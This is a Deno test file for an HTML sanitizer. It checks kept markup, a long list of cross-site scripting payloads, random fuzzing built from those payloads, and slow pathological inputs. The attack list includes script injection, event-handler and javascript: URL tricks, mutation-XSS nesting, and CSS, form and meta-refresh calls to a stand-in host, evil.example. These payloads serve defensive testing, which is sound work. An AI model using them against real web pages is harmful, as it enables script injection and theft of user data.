import { assert, assertEquals } from "@std/assert";
import { type DefaultTreeAdapterTypes, parse } from "parse5";
import { safeHtml } from "../../src/admin/content/safe_html.ts";
import { seededRandom } from "../../src/base/random.ts";

const PICTURE = "data:image/png;base64,AAAA";
const OPTIONS = { inlineImage: (id: string) => id === "known" ? PICTURE : null };

function safe(html: string): string {
  return safeHtml(html, OPTIONS).html;
}

/** What must survive, and what it becomes. */
const KEPT: readonly (readonly [html: string, expected: string])[] = [
  ["<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>"],
  ["<P ALIGN=center>x", `<p align="center">x</p>`],
  ["<b><i>x</b>y", "<b><i>x</i></b>y"],
  ["</div>x", "x"],
  [`<img src=cid:known alt="a &amp; b">`, `<img src="${PICTURE}" alt="a &amp; b">`],
  [`<td style='color:#333; width:50%'>x</td>`, `<td style="color:#333; width:50%">x</td>`],
  ["1 < 2 and &lt;b&gt;", "1 &lt; 2 and &lt;b&gt;"],
  ["<!-- no --><!DOCTYPE html>x", "x"],
  ["<head><title>t</title><style>p{}</style></head><body>x</body>", "x"],
  ["<custom-thing>x</custom-thing>", "x"],
  [
    `<a href="https://a.example/?b=1&amp;c=2" onclick="x()">x</a>`,
    `<a href="https://a.example/?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">` +
    "x</a>",
  ],
];

for (const [html, expected] of KEPT) {
  Deno.test(`safe HTML: ${html}`, () => assertEquals(safe(html), expected));
}

/** Ways that have been used to run or fetch something from a page. */
const ATTACKS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/x>alert(1)</script >x",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>a</script",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  `<img src="x\`\`onerror=alert(1)">`,
  "<img src='https://evil.example/pixel.png'>",
  "<img srcset='https://evil.example/a 1x'>",
  "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
  "<img src=data:text/html;base64,PHNjcmlwdD4=>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript&colon;alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href=vbscript:x>x</a>",
  "<a href=data:text/html,<script>alert(1)</script>>x</a>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<p title='</p><script>alert(1)</script>'>",
  `<p title="'"><script>alert(1)</script>`,
  "<style>@import 'https://evil.example/x.css'</style>",
  "<p style='background:url(https://evil.example/x)'>x</p>",
  "<p style='background:\\75rl(https://evil.example/x)'>x</p>",
  "<p style='width:expression(alert(1))'>x</p>",
  "<p style='-moz-binding:url(x)'>x</p>",
  "<p style='position:fixed;top:0'>x</p>",
  "<p style='a:b&#59;background:url(https://evil.example/x)'>x</p>",
  "<table background='https://evil.example/x'><tr><td>x</table>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x></object><embed src=x>",
  "<form action=https://evil.example><input name=a><button>x</button></form>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><script>alert(1)</script></title>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml <script>alert(1)</script>?>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<p onmouseover\n=alert(1)>x",
  `<p title="a"onclick="alert(1)">x`,
  "<p/onclick=alert(1)//>x",
  "<p \u0000onclick=alert(1)>x",
  "<template><script>alert(1)</script></template>",
  "<select><option><script>alert(1)</script></select>",
  "<isindex action=javascript:alert(1)>",
  "<a ping=https://evil.example href=https://ok.example>x</a>",
  "<p id=location name=cookie class=x>clobber</p>",
  "<img src='cid:unknown'>",
  "<a href='//evil.example'>x</a>",
  "<b <script>alert(1)</script>>x",
  "<<script>alert(1)//<</script>",
];

for (const html of ATTACKS) {
  Deno.test(`safe HTML runs and fetches nothing: ${html}`, () => assertHarmless(safe(html)));
}

Deno.test("safe HTML: pieces of attacks put together at random are harmless", () => {
  const random = seededRandom(7);
  const pieces = [
    ...ATTACKS.flatMap((html) => html.split(/(?<=[<>"'= ])/)),
    ..."<>\"'=/ &\n\t\u0000`".split(""),
    "</p>",
    "<p title=",
    "]]>",
    "-->",
  ];
  const pick = (): string => pieces[Math.floor(random.float() * pieces.length)] ?? "";
  for (let round = 0; round < 3000; round++) {
    const html = Array.from({ length: 1 + Math.floor(random.float() * 30) }, pick).join("");
    assertHarmless(safe(html), html);
  }
});

Deno.test("safe HTML counts what it left out", () => {
  const html = "<img src=https://a.example/1><p style='background:url(x);color:red'>" +
    "<table background=x>";
  assertEquals(safeHtml(html, OPTIONS).blocked, 3);
});

const COSTLY: Readonly<Record<string, string>> = {
  "open tags": "<a ".repeat(300_000),
  "open comments": "<!--".repeat(300_000),
  "open quotes": `<a href="`.repeat(200_000),
  "open titles": "<title>".repeat(200_000),
  "closing tags": "</b>".repeat(300_000),
  "deep nesting": "<div>".repeat(300_000),
  "attributes": `<p ${"a=b ".repeat(300_000)}>`,
  "white space": `<p ${" ".repeat(1_000_000)}x>`,
  "references": `<p title="${"&#x41;".repeat(200_000)}">`,
  "styles": `<p style="${"color:red;".repeat(100_000)}">`,
};

for (const [name, html] of Object.entries(COSTLY)) {
  Deno.test(`safe HTML takes little time: ${name}`, () => {
    const startedMs = performance.now();
    safe(html);
    const tookMs = performance.now() - startedMs;
    assert(tookMs < 2_000, `${tookMs} ms`); // quadratic time would be minutes
  });
}

const ELEMENTS =
  /^(?:html|head|body|a|abbr|b|blockquote|br|center|code|col|dd|details|div|em|font|h[1-6]|hr|i|img|li|ol|option|p|pre|q|s|section|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr|address|article|aside|bdi|bdo|big|caption|cite|colgroup|del|dfn|dl|dt|figcaption|figure|footer|header|ins|kbd|main|mark|nav|samp|strike)$/;
const ATTRIBUTES =
  /^(?:abbr|align|alt|bgcolor|border|cellpadding|cellspacing|color|cols|colspan|dir|face|height|href|hspace|lang|nowrap|rel|reversed|role|rowspan|scope|size|span|src|start|style|summary|target|title|type|valign|vspace|width)$/;

/** Reads the result as a browser does and looks at everything in it. */
function assertHarmless(html: string, from = ""): void {
  const why = `${html} from ${from}`;
  for (const element of elementsOf(parse(html))) {
    assert(ELEMENTS.test(element.tagName), `<${element.tagName}> in ${why}`);
    assertEquals(element.namespaceURI, "http://www.w3.org/1999/xhtml", why);
    for (const { name, value } of element.attrs) {
      assert(ATTRIBUTES.test(name), `${name} in ${why}`);
      if (name === "href") assert(/^(?:https?:\/\/|mailto:|tel:)/i.test(value), why);
      if (name === "src") assert(/^data:image\/(?:png|jpeg|gif|webp);base64,/.test(value), why);
      if (name === "style") assert(!/url|@|\\|expression|position|binding/i.test(value), why);
    }
  }
}

function* elementsOf(
  node: DefaultTreeAdapterTypes.Node,
): Iterable<DefaultTreeAdapterTypes.Element> {
  if ("tagName" in node) yield node;
  if ("childNodes" in node) { for (const child of node.childNodes) yield* elementsOf(child); }
}
